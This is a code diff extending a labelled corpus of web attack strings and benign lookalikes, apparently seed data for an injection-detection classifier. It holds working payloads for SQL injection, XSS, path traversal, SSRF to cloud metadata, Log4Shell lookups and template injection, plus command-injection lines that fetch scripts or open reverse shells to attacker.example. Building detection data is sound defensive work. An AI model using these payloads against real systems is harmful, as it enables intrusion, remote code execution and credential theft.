@@ -17,8 +17,10 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "' GROUP BY columnnames having 1=1 --", "' or username like '%admin%'--", "1 or 1=1#", "0x50 or 1=1", "') union select 1,load_file('/etc/passwd')--",
     "1' AND 1=1 AND 'a'='a", "admin' or '1'='1'/*", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "' HAVING 1=1--", "x' AND email IS NULL; --",
     "' or 1=1 limit 1;#", "1;select pg_sleep(10)", "'+(select*from(select(sleep(5)))a)+'", "admin\"--",
+    "uid=12 or 3=3", "/api/orders?status=2 or 7=7", "-8#c\nunion select 1,2", "x' and(4=4)--",
   ],
   xss: [
+    "<q:script xmlns:q=\"http://www.w3.org/1999/xhtml\">alert(8)</q:script>", "width:5px;background:url(javascript:alert(6))", "self['prompt'](2)", "(![]+[])[+[]]", "+ADw-svg onload=alert(4)+AD4-",
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
     "javascript:alert(document.cookie)", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>", "\" onmouseover=\"alert(1)",
     "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('XSS')>", "<a href=\"javascript:alert(1)\">click</a>",
@@ -29,6 +31,7 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "<img src=x:alert(alt) onerror=eval(src) alt=0>", "javascript&colon;alert(1)", "\"><svg onload=confirm`1`>", "<x onclick=alert(1)>click", "<scr<script>ipt>alert(1)</script>", "<base href=\"javascript:alert(1)//\">",
   ],
   traversal: [
+    "/proc/self/cwd/app.py", "/etc/sudoers",
     "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "/var/www/../../etc/shadow",
     "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/proc/self/environ", "..;/..;/admin",
     "../../../../../../boot.ini", "....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts", "phar://uploads/avatar.jpg/shell",
@@ -39,12 +42,14 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "http://evil.example/inc.txt?cmd=id?", "\\\\attacker.example\\share\\shell.php",
   ],
   cmdi: [
+    "|system('whoami')", ";popen('id', 'r')", "sh -c \"cat /etc/group\"", "more /[e]tc/[!z]asswd", "x\nvisudo -f /etc/sudoers",
     "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "127.0.0.1; ls -la", "127.0.0.1 && cat /etc/shadow", "x || ping -c 3 attacker.example",
     "; wget http://attacker.example/s.sh -O /tmp/s.sh", "$(curl -s http://attacker.example/x|sh)", "1;c'a't${IFS}/etc/passwd", "a;/bin/sh -i",
     "| nc -e /bin/sh attacker.example 4444", "\nid\n", "& ping -n 5 127.0.0.1 &", "; powershell -enc SQBFAFgA", "|certutil -urlcache -f http://x/p.exe p.exe",
     "127.0.0.1|whoami", "test; uname -a", "; sleep 10",
   ],
   ssrf: [
+    "sftp://203.0.113.5/x", "http://6442450943/", "http:169.254.169.254/latest", "http://0x1a9fea9fe/", "http://[::ffff:a9fe:a9fe]/",
     "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
     "http://localhost:6379/", "http://127.0.0.1:8080/admin", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f000001/", "http://0x7f.0x0.0x0.0x1/",
     "http://10.0.0.12/internal", "http://192.168.1.1/", "http://172.16.5.4:9200/_cat/indices", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats",
@@ -58,11 +63,13 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
   ],
   jndi: [
+    "${env:AWS_SESSION_TOKEN}", "${sys:java.class.path}", "${java:hw}",
     "${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/obj}", "${jndi:dns://attacker.example}", "${${lower:j}ndi:${lower:l}dap://x/a}",
     "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
     "${jNdI:LdAp://x/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://x}", "${${lower:${lower:jndi}}:ldap://x}", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x}", "Mozilla/5.0 ${jndi:ldap://x/ua}", "${j${k8s:k5:-ND}i:ldap://x}",
   ],
   ssti: [
+    "${applicationScope}", "#{facesContext.externalContext}", "{{#with split as |list|}}{{this.pop}}{{/with}}", "@{[ system 'id' ]}",
     "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
     "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{% import os %}{{os.system('id')}}",
     "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
@@ -88,7 +95,11 @@ const benign: string[] = [
   "<p>Thanks for your order!</p>", "<a href=\"https://example.com\">link</a>", "SELECT", "Drop table tennis practice is on Monday",
   "update: shipped", "insert coin", "exec summary attached", "Sleep well", "waitfor it", "Be there or be square", "1 or more items",
   "localhost is fine for development", "see 10.0.0.1 in the docs", "file.tar.gz", "photo.jpeg", "Mr. & Mrs. Smith",
-  "#{name}", "{{ user.name }}", "I love O'Reilly books", "SELECT your preferred size", "email me; thanks", "50% off | today",
+  "#{name}", "{{ user.name }}",
+  "<iframe src=\"https://www.youtube.com/embed/aBcD1234567\" width=\"560\" height=\"315\" frameborder=\"0\" allowfullscreen></iframe>",
+  "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":\"Organization\",\"name\":\"Acme\"}</script>",
+  "Team,\nfind the notes attached.\nmore soon", "Check the `limit` setting first", "```sh\nyarn add lodash\n```", "<a href=\"#pricing\">Pricing</a>", "Item \"#4 pencil\" restocked",
+  "<?xml version=\"1.0\" encoding=\"UTF-8\"?><invoice><total>12.50</total></invoice>", "Ben&nbsp;&amp;&nbsp;Jerry's&nbsp;ice cream", "I love O'Reilly books", "SELECT your preferred size", "email me; thanks", "50% off | today",
   "https://localhost.example.com/", "Dear Sir/Madam, please find attached", "Q: what's 2*3? A: 6", "if (a < b) { return a; }", "<%= title %>", "${price}", "Tom's; Jerry's", "Meet me @ 5pm", "ID: 12-34-56",
 ];
 
